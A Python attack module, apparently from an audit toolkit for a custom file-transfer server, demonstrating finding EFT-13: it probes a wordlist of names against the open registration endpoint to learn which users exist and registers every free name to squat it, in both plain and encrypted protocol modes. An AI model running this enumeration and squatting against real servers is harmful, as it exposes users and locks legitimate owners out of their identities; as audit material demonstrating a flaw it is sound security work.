"""Names are first come, first served, and 1601 tells who is registered.

825 with a name answers 1601 if the name is taken and 1600 if it was free, to anyone,
without limit. So a list of candidate names tells which users exist, and every free
name we probe is now ours: the real user who registers later gets 1601 (client exit
4). There is no way to prove a name is yours. A server that forgets its clients (the
original design, ``--ephemeral``) frees every name at a restart, and whoever registers
first after it takes the identity of a returning user.

``--protocol 4``: names travel encrypted, but registration is still open: 825 with a
fresh key of ours for each candidate answers 1601 if the name is taken and 1600 if it
was free (and now ours). A taken name is useless without its key, yet the answer tells
who exists, and a squatted name is lost to its owner. This is inherent in open
registration (an enrollment token would close it; our server does not require one).
"""

from __future__ import annotations

import argparse
from pathlib import Path

from eft_protocol.codes import RequestCode, ResponseCode

from .common import AttackError, Out, ServerLink
from .framing import name_request
from .v4 import add_protocol_argument, register

FINDING = "EFT-13"
SUMMARY = "enumerate registered names through 1601 and squat the free ones"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    parser.add_argument("--names", default="", help="comma-separated candidate names")
    parser.add_argument("--wordlist", help="a file of candidate names, one a line")
    add_protocol_argument(parser)


async def probe(target: str, name: str, protocol: int = 3) -> tuple[int, bytes]:
    if protocol == 4:
        client, code = await register(target, name)
        await client.close()
        return code, client.client_id if code == ResponseCode.REGISTERED else b""
    link = await ServerLink.open(target)
    try:
        await link.send(name_request(bytes(16), RequestCode.REGISTER, name))
        answer = await link.receive()
        return answer.code, answer.payload
    finally:
        await link.close()


async def run(args: argparse.Namespace, out: Out) -> bool:
    names = [n.strip() for n in args.names.split(",") if n.strip()]
    if args.wordlist:
        names += [n.strip() for n in Path(args.wordlist).read_text().splitlines() if n.strip()]
    if not names:
        raise AttackError("give candidate names with --names or --wordlist")
    taken, squatted = [], {}
    for name in names:
        code, payload = await probe(args.target, name, args.protocol)
        if code == ResponseCode.REGISTRATION_FAILED:
            taken.append(name)
        elif code == ResponseCode.REGISTERED:
            squatted[name] = payload.hex()
        out.step(f"{name!r}: {code}", registered=code == ResponseCode.REGISTRATION_FAILED)
    return out.result(
        bool(taken),
        f"{len(taken)} of {len(names)} names exist; {len(squatted)} free ones are now ours",
        existing=taken,
        squatted=squatted,
    )
